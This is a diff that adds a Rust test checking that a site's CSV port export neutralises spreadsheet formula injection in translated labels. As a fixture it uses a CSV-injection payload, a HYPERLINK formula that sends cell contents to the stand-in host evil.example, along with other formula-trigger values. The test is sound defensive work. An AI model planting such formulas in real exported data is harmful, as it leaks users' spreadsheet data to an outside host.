@@ -600,3 +600,165 @@ fn a_hostile_deployment_on_the_command_line_prints_nothing() {
         }
     }
 }
+
+// ---------------------------------------------------------------------------------------------
+// CSV cells a spreadsheet would evaluate.
+
+/// Reads CSV as RFC 4180 writes it (fields separated by `,`, rows ended by CRLF, a quoted field
+/// may hold anything with inner quotes doubled), and panics on anything else, so a test sees
+/// the cells a spreadsheet sees.
+fn parse_csv(text: &str) -> Vec<Vec<String>> {
+    let mut rows = Vec::new();
+    let mut row = Vec::new();
+    let mut field = String::new();
+    let mut chars = text.chars().peekable();
+    // Inside a quoted field, and whether the current field was quoted and has closed.
+    let (mut quoted, mut closed) = (false, false);
+    while let Some(c) = chars.next() {
+        if quoted {
+            match c {
+                '"' if chars.peek() == Some(&'"') => {
+                    chars.next();
+                    field.push('"');
+                }
+                '"' => (quoted, closed) = (false, true),
+                _ => field.push(c),
+            }
+            continue;
+        }
+        match c {
+            '"' if field.is_empty() && !closed => quoted = true,
+            ',' => {
+                row.push(std::mem::take(&mut field));
+                closed = false;
+            }
+            '\r' if chars.peek() == Some(&'\n') => {
+                chars.next();
+                row.push(std::mem::take(&mut field));
+                rows.push(std::mem::take(&mut row));
+                closed = false;
+            }
+            _ if closed => panic!("text after a closing quote: {c:?} in {text:?}"),
+            '"' | '\r' | '\n' => panic!("{c:?} outside quotes in {text:?}"),
+            _ => field.push(c),
+        }
+    }
+    assert!(
+        !quoted && field.is_empty() && row.is_empty(),
+        "the CSV ends inside a row"
+    );
+    rows
+}
+
+/// Function labels that a spreadsheet would evaluate, by rule: (message id, Fluent text, the
+/// label's text).
+const FORMULA_LABELS: [(&str, &str, &str); 6] = [
+    (
+        "function-sip",
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+    ),
+    ("function-rtp", "+1", "+1"),
+    ("function-ldaps", "-2+3", "-2+3"),
+    ("function-provisioning", "@SUM(A1)", "@SUM(A1)"),
+    ("function-updates-push", "{\"\\u0009\"}x", "\tx"),
+    ("function-video", "{\"\\u000D\"}x", "\rx"),
+];
+
+/// The example's `ports.ftl` of `lang` with the [`FORMULA_LABELS`] and a label that hides a
+/// formula behind a `;`, the separator of spreadsheets in many languages.
+fn formula_messages(site: &SiteTest, lang: &str) -> String {
+    let mut messages = site.read_source(&format!("i18n/{lang}/ports.ftl"));
+    for (id, fluent, _) in FORMULA_LABELS
+        .iter()
+        .chain(&[("function-chat", "a;=1+1", "")])
+    {
+        let line = messages
+            .lines()
+            .find(|line| line.starts_with(&format!("{id} = ")))
+            .unwrap_or_else(|| panic!("no {id} in {lang}"))
+            .to_owned();
+        messages = messages.replace(&line, &format!("{id} = {fluent}"));
+    }
+    messages
+}
+
+#[test]
+fn csv_cells_a_spreadsheet_would_evaluate_are_neutralised() {
+    let site = SiteTest::example();
+    site.build();
+    let clean = parse_csv(&site.output("data/ports.csv"));
+    for lang in ["de", "en"] {
+        let messages = formula_messages(&site, lang);
+        site.write(&format!("i18n/{lang}/ports.ftl"), &messages);
+    }
+    site.build();
+    let text = site.output("data/ports.csv");
+    assert!(
+        text.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","),
+        "{text}"
+    );
+    let run = site.run(&["ports", "export", "--format", "csv"]);
+    run.expect_code(0);
+    assert_eq!(run.stdout, text);
+
+    let rows = parse_csv(&text);
+    assert_eq!(rows.len(), clean.len());
+    let header = &rows[0];
+    let column = |name: &str| header.iter().position(|cell| cell == name).unwrap();
+    let function = column("function");
+    let labels = [column("function_de"), column("function_en")];
+    let ports = [column("port_start"), column("port_end")];
+    let mut neutralised = 0;
+    for (row, clean_row) in rows.iter().zip(&clean).skip(1) {
+        assert_eq!(row.len(), header.len(), "{row:?}");
+        for port in ports {
+            assert!(row[port].parse::<u16>().is_ok(), "{row:?}");
+        }
+        let expected = FORMULA_LABELS
+            .iter()
+            .find(|(id, _, _)| *id == row[function])
+            .map(|(_, _, label)| format!("'{label}"));
+        for label in labels {
+            match &expected {
+                Some(expected) => {
+                    assert_eq!(&row[label], expected);
+                    neutralised += 1;
+                }
+                None if row[function] == "function-chat" => assert_eq!(row[label], "a;=1+1"),
+                None => assert_eq!(row[label], clean_row[label]),
+            }
+        }
+        for (index, cell) in row.iter().enumerate() {
+            if !labels.contains(&index) {
+                assert_eq!(cell, &clean_row[index], "only the labels changed");
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell:?}"
+                );
+            }
+        }
+    }
+    // Every formula label appears in both languages, in at least one row each.
+    assert!(neutralised >= FORMULA_LABELS.len() * labels.len(), "{text}");
+
+    let run = site.run(&[
+        "ports",
+        "export",
+        "--format",
+        "csv",
+        "--deployment",
+        "onsite",
+    ]);
+    run.expect_code(0);
+    let onsite = parse_csv(&run.stdout);
+    assert!(onsite.len() > 1);
+    for row in &onsite[1..] {
+        for label in labels {
+            assert!(
+                !row[label].starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{row:?}"
+            );
+        }
+    }
+}
